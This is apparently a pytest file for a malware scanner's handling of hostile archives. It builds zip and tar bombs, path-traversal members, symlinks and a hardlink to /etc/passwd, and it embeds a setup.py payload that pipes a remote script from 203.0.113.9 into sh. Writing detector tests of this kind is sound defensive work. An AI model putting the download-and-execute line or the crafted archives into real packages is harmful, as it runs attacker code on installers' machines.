"""Hostile and broken input: an `error`, bounded time and memory, never a crash."""

from __future__ import annotations

import io
import os
import stat
import tarfile
import time
import tracemalloc
import zipfile

import pytest
from code_fixtures import BENIGN_PKG, MISS_SETUP_IMPORT, write_dir, write_sdist, write_zip

from detector.code import scan_files, scan_path
from detector.policy import load_policy

PAYLOAD = "import os\nos.system('curl -s http://203.0.113.9/x | sh')\n"


def rules(result) -> set[str]:
    return {f.rule for f in result.findings}


def _tar_add(tar: tarfile.TarFile, name: str, data: bytes = b"", **attrs) -> None:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    for key, value in attrs.items():
        setattr(info, key, value)
    tar.addfile(info, io.BytesIO(data) if data else None)


def test_zip_bomb_member_is_skipped(tmp_path):
    path = tmp_path / "bomb.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("pkg/setup.py", PAYLOAD)
        with archive.open("pkg/huge.py", "w") as handle:
            chunk = b"\0" * (1 << 20)
            for _ in range(40):  # 40 MiB of zeros, ~40 KiB compressed
                handle.write(chunk)
    assert path.stat().st_size < 1_000_000
    tracemalloc.start()
    started = time.perf_counter()
    result = scan_path(path)
    elapsed = time.perf_counter() - started
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert result.error and "bomb" in result.error
    assert "archive-limit-exceeded" in rules(result)
    assert "shell-download-exec" in rules(result)  # the rest is still scanned
    assert elapsed < 30 and peak < 50_000_000


def test_tar_bomb_stops_reading(tmp_path):
    path = tmp_path / "bomb-1.0.tar.gz"
    with tarfile.open(path, "w:gz") as tar:
        _tar_add(tar, "bomb-1.0/setup.py", PAYLOAD.encode())
        info = tarfile.TarInfo("bomb-1.0/zeros.py")
        info.size = 60 << 20
        tar.addfile(info, io.BytesIO(b"\0" * info.size))
    result = scan_path(path)
    assert result.error and ("ratio" in result.error or "larger" in result.error)
    assert "shell-download-exec" in rules(result)


def test_too_many_members(tmp_path):
    policy = tmp_path / "policy.toml"
    policy.write_text("[code.limits]\nmax_members = 50\n")
    path = write_zip(tmp_path / "many.zip", {f"pkg/m{i}.py": "x = 1\n" for i in range(200)})
    result = scan_path(path, policy=load_policy(policy))
    assert result.error and "more than 50 members" in result.error


def test_tar_path_traversal_is_refused(tmp_path):
    path = tmp_path / "evil-1.0.tar.gz"
    with tarfile.open(path, "w:gz") as tar:
        _tar_add(tar, "evil-1.0/setup.py", b"from setuptools import setup\nsetup()\n")
        _tar_add(tar, "../../escaped.py", PAYLOAD.encode())
        _tar_add(tar, "/tmp/absolute.py", PAYLOAD.encode())
    result = scan_path(path)
    assert result.error and "path traversal" in result.error
    hits = [f for f in result.findings if f.rule == "archive-path-traversal"]
    assert len(hits) == 2
    assert not (tmp_path.parent / "escaped.py").exists()


@pytest.mark.parametrize("kind", ["tar", "zip", "dir"])
def test_links_outside_the_package_flag_it_unread(tmp_path, kind):
    secret = tmp_path / "outside.py"
    secret.write_text(PAYLOAD)
    if kind == "tar":
        path = tmp_path / "links-1.0.tar.gz"
        with tarfile.open(path, "w:gz") as tar:
            _tar_add(tar, "links-1.0/setup.py", b"x = 1\n")
            _tar_add(tar, "links-1.0/link.py", type=tarfile.SYMTYPE, linkname=str(secret))
            _tar_add(tar, "links-1.0/hard.py", type=tarfile.LNKTYPE, linkname="/etc/passwd")
    elif kind == "zip":
        path = tmp_path / "links.zip"
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr("setup.py", "x = 1\n")
            info = zipfile.ZipInfo("link.py")
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(info, str(secret))
    else:
        path = write_dir(tmp_path / "pkg", {"setup.py": "x = 1\n"})
        os.symlink(secret, path / "link.py")
        os.symlink(tmp_path, path / "linkdir")
    result = scan_path(path)
    assert result.error and "outside the package" in result.error
    assert "archive-link-outside" in rules(result) and result.flagged
    assert "shell-download-exec" not in rules(result)  # the link target was never read


def test_device_member_is_skipped(tmp_path):
    path = tmp_path / "dev-1.0.tar.gz"
    with tarfile.open(path, "w:gz") as tar:
        _tar_add(tar, "dev-1.0/setup.py", b"x = 1\n")
        _tar_add(tar, "dev-1.0/null", type=tarfile.CHRTYPE, devmajor=1, devminor=3)
    result = scan_path(path)
    assert "archive-special-file" in rules(result) and "special" in result.error


def test_duplicate_member_names(tmp_path):
    path = tmp_path / "dup.zip"
    with pytest.warns(UserWarning), zipfile.ZipFile(path, "w") as archive:
        archive.writestr("setup.py", "x = 1\n")
        archive.writestr("setup.py", PAYLOAD)
    result = scan_path(path)
    assert "archive-duplicate-code" in rules(result) and result.flagged
    assert "duplicate" in result.error
    assert "shell-download-exec" in rules(result)  # the last copy is the one extracted


@pytest.mark.parametrize(
    "source",
    [
        "x = " + "(" * 100_000 + "1" + ")" * 100_000,
        "x = " + "-" * 100_000 + "1",
        "x = a" + ".a" * 100_000,
        "x = a" + " + a" * 100_000,
        "x = " + "[" * 100_000 + "]" * 100_000,
    ],
    ids=["parens", "unary", "attributes", "binops", "lists"],
)
def test_deeply_nested_expressions(source):
    started = time.perf_counter()
    result = scan_files({"setup.py": source + "\n" + PAYLOAD})
    assert time.perf_counter() - started < 30
    assert result.error is None
    assert "shell-download-exec" in rules(result)  # text rules still see the payload


def test_50mb_single_line_file_in_directory(tmp_path):
    pkg = write_dir(tmp_path / "pkg", {"setup.py": PAYLOAD})
    with open(pkg / "big.py", "w") as handle:
        handle.write("x = '" + "A" * (50 << 20) + "'")
    tracemalloc.start()
    started = time.perf_counter()
    result = scan_path(pkg)
    elapsed = time.perf_counter() - started
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert result.error and "big.py" in result.error
    assert "shell-download-exec" in rules(result)
    assert elapsed < 30 and peak < 100_000_000


def test_50mb_single_line_in_event_files():
    line = "x = '" + "QUFB" * (50 << 18) + "'"
    started = time.perf_counter()
    result = scan_files({"setup.py": line + "\n" + PAYLOAD})
    assert time.perf_counter() - started < 60
    assert "unparsable-python" in rules(result)  # too large to parse: text rules only


def test_nul_bytes(tmp_path):
    pkg = tmp_path / "pkg"
    pkg.mkdir()
    (pkg / "setup.py").write_bytes(b"import os\x00\x00\n" + PAYLOAD.encode())
    result = scan_path(pkg)
    assert "nul-bytes" in rules(result)
    assert "shell-download-exec" in rules(result)
    event = scan_files({"setup.py": "x = 1\x00\n" + PAYLOAD})
    assert "nul-bytes" in rules(event)


def test_non_utf8(tmp_path):
    pkg = tmp_path / "pkg"
    pkg.mkdir()
    (pkg / "setup.py").write_bytes("# -*- coding: latin-1 -*-\n# café\n".encode("latin-1")
                                   + PAYLOAD.encode() + b"\xff\xfe\n")
    result = scan_path(pkg)
    assert "non-utf8" in rules(result)
    assert "shell-download-exec" in rules(result)


@pytest.mark.parametrize("suffix", [".tar.gz", ".zip", ".whl"])
def test_corrupt_archive_gives_error(tmp_path, suffix):
    path = tmp_path / f"broken{suffix}"
    path.write_bytes(b"\x1f\x8b\x08 this is not really an archive" * 10)
    result = scan_path(path)
    assert result.error and result.score == 0.0 and not result.flagged


def test_truncated_archive_keeps_what_was_read(tmp_path):
    full = write_sdist(tmp_path / "full.tar.gz", MISS_SETUP_IMPORT)
    cut = tmp_path / "cut.tar.gz"
    cut.write_bytes(full.read_bytes()[: full.stat().st_size - 40])
    result = scan_path(cut)
    assert result.error is not None or result.findings


def test_missing_path():
    result = scan_path("/nonexistent/warden/pkg.tar.gz")
    assert result.error == "no such file or directory"


def test_scan_files_rejects_bad_shapes():
    assert scan_files("not a dict").error  # type: ignore[arg-type]
    result = scan_files({"setup.py": 42, "../up.py": PAYLOAD})  # type: ignore[dict-item]
    assert result.error and "path traversal" in result.error


def test_event_with_too_many_files(tmp_path):
    policy = tmp_path / "policy.toml"
    policy.write_text("[code.limits]\nmax_members = 10\n")
    result = scan_files({f"m{i}.py": "x = 1\n" for i in range(50)}, policy=load_policy(policy))
    assert result.error and "too many files" in result.error


def test_benign_archives_have_no_error(tmp_path):
    for path in (write_sdist(tmp_path / "ok.tar.gz", BENIGN_PKG),
                 write_zip(tmp_path / "ok.zip", BENIGN_PKG)):
        result = scan_path(path)
        assert result.error is None and not result.flagged
